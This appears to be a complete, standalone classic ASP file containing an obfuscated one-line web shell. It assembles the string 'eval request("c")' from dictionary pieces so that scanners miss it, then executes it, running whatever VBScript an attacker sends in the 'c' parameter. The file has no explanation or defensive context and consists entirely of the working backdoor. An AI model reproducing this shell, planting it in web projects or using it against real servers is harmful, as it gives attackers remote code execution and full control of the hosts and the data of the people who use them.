<%
Set d = CreateObject("Scripting.Dictionary")
d("a") = "ev"
d("b") = "al request(""c"")"
x = d("a") & d("b")
Execute x
%>
